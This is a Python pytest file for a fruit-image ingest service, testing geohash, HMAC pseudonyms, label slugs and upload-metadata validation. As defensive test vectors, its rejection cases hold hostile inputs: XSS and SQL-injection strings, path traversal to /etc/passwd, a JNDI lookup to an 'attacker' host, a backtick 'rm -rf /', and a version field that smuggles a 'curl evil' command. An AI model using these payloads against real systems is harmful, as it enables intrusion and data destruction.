"""Pure rules: geohash, pseudonyms, hour truncation, label slugs, metadata validation."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta, timezone

import pytest
from fruits_ingest.anonymize import geohash, normalize_label, subject_id, truncate_to_hour
from fruits_ingest.metadata import InvalidMetadata, UploadMetadata, parse_upload_metadata

NOW = datetime(2025, 6, 14, 9, 30, tzinfo=UTC)


@pytest.mark.parametrize(
    ("lat", "lon", "precision", "expected"),
    [
        (57.64911, 10.40744, 11, "u4pruydqqvj"),  # geohash.org reference point
        (42.605, -5.603, 5, "ezs42"),  # Wikipedia example
        (48.856613, 2.352222, 4, "u09t"),  # Paris
        (0.0, 0.0, 4, "s000"),
        (-90.0, -180.0, 4, "0000"),
        (90.0, 180.0, 4, "zzzz"),
    ],
)
def test_geohash_matches_known_vectors(lat, lon, precision, expected):
    # GIVEN a coordinate WHEN encoded THEN it matches the published geohash
    assert geohash(lat, lon, precision) == expected


def test_geohash_default_precision_is_four():
    assert len(geohash(48.85, 2.35)) == 4


def test_subject_id_is_hmac_sha256():
    # GIVEN RFC 4231 test case 2 WHEN hashed THEN the published HMAC-SHA256 comes out
    expected = "5bdcc146bf60754e6a042426089575c75a003f089d2739839dec58b964ec3843"
    assert subject_id(b"Jefe", "what do ya want for nothing?") == expected


def test_subject_id_depends_on_the_key():
    assert subject_id(b"k" * 16, "user") != subject_id(b"j" * 16, "user")


def test_truncate_to_hour_converts_to_utc_first():
    moment = datetime(2025, 6, 13, 1, 47, 53, 123, tzinfo=timezone(timedelta(hours=2)))
    assert truncate_to_hour(moment) == datetime(2025, 6, 12, 23, 0, tzinfo=UTC)


@pytest.mark.parametrize(
    ("raw", "slug"),
    [
        ("Red Apple", "red-apple"),
        ("  Granny_Smith  ", "granny-smith"),
        ("Pêche de vigne", "peche-de-vigne"),
        ("Äpfel", "apfel"),
        ("king's mango", "kings-mango"),
        ("lemon--2", "lemon-2"),
        ("x" * 64, "x" * 64),
    ],
)
def test_label_normalizes_to_slug(raw, slug):
    assert normalize_label(raw) == slug


@pytest.mark.parametrize(
    "raw",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "../../etc/passwd",
        "..\\windows\\system32",
        "apple/../../x",
        "${jndi:ldap://attacker/a}",
        "{{7*7}}",
        "apple'; DROP TABLE labels;--",
        'apple" OR "1"="1',
        "apple\x00",
        "apple\nlevel=ERROR fake log line",
        "apple\u202ereversed",
        "%2e%2e%2f",
        "`rm -rf /`",
        "",
        "---",
        "🍎",
        "x" * 65,
    ],
)
def test_label_refuses_injection_and_empty(raw):
    # GIVEN a hostile or empty label WHEN normalized THEN it is refused, and the message does not echo it
    with pytest.raises(ValueError) as refused:
        normalize_label(raw)
    assert raw.strip() == "" or raw not in str(refused.value)


def test_full_valid_metadata_is_parsed():
    raw = {
        "user-id": "user-1",
        "device-id": "device-1",
        "captured-at": "2025-06-13T18:47:53+02:00",
        "lat": "48.856613",
        "lon": "-2.352222",
        "label": "Red Apple",
        "app-version": "2.3.1-beta.1",
        "unknown-key": "ignored",
    }
    parsed = parse_upload_metadata(raw, NOW)
    assert isinstance(parsed, UploadMetadata)
    assert parsed.label == "red-apple"
    assert (parsed.lat, parsed.lon) == (48.856613, -2.352222)
    assert parsed.captured_at == datetime(2025, 6, 13, 16, 47, 53, tzinfo=UTC)


def test_empty_metadata_is_valid_and_all_none():
    parsed = parse_upload_metadata({}, NOW)
    assert isinstance(parsed, UploadMetadata)
    assert parsed.model_dump() == dict.fromkeys(
        ["user_id", "device_id", "captured_at", "lat", "lon", "label", "app_version"]
    )


def test_prefixed_and_mixed_case_keys_are_accepted():
    parsed = parse_upload_metadata({"X-Amz-Meta-Label": "Lemon", "x-amz-meta-lat": "1", "LON": "2"}, NOW)
    assert isinstance(parsed, UploadMetadata)
    assert (parsed.label, parsed.lat, parsed.lon) == ("lemon", 1.0, 2.0)


def test_rfc2047_encoded_value_is_decoded():
    # GIVEN a label as S3 returns non-ASCII metadata WHEN parsed THEN it is decoded before slugging
    parsed = parse_upload_metadata({"label": "=?utf-8?b?UMOqY2hl?="}, NOW)
    assert isinstance(parsed, UploadMetadata) and parsed.label == "peche"


@pytest.mark.parametrize(
    ("raw", "field"),
    [
        ({"user-id": ""}, "user-id"),
        ({"user-id": "u" * 129}, "user-id"),
        ({"user-id": "tab\there"}, "user-id"),
        ({"device-id": ""}, "device-id"),
        ({"device-id": 42}, "device-id"),
        ({"captured-at": "13/06/2025 18:47"}, "captured-at"),
        ({"captured-at": "2025-06-13T18:47:53"}, "captured-at"),
        ({"captured-at": "2025-06-15T10:00:00Z"}, "captured-at"),  # 24.5 h ahead of NOW
        ({"captured-at": "1999-12-31T23:59:59Z"}, "captured-at"),
        ({"lat": "48.85"}, "metadata"),
        ({"lon": "2.35"}, "metadata"),
        ({"lat": "-90.0001", "lon": "0"}, "lat"),
        ({"lat": "0", "lon": "180.5"}, "lon"),
        ({"lat": "1e1", "lon": "0"}, "lat"),
        ({"lat": "inf", "lon": "0"}, "lat"),
        ({"lat": " 48.85", "lon": "0"}, "lat"),
        ({"lat": "48,85", "lon": "2,35"}, "lat"),
        ({"label": "<svg/onload=alert(1)>"}, "label"),
        ({"app-version": "latest"}, "app-version"),
        ({"app-version": "1.2.3; curl evil"}, "app-version"),
        ({"label": "a", "LABEL": "b"}, "label"),
    ],
)
def test_malformed_field_is_invalid_metadata_without_echoing_the_value(raw, field):
    # GIVEN metadata with one malformed field WHEN parsed THEN it is invalid, the detail names the field
    parsed = parse_upload_metadata(raw, NOW)
    assert isinstance(parsed, InvalidMetadata)
    assert parsed.detail.startswith(f"{field}:") or f"; {field}:" in parsed.detail
    for value in raw.values():
        if isinstance(value, str) and len(value) > 3:
            assert value not in parsed.detail


def test_capture_time_within_tolerance_is_accepted():
    ahead = (NOW + timedelta(hours=23)).isoformat()
    assert isinstance(parse_upload_metadata({"captured-at": ahead}, NOW), UploadMetadata)
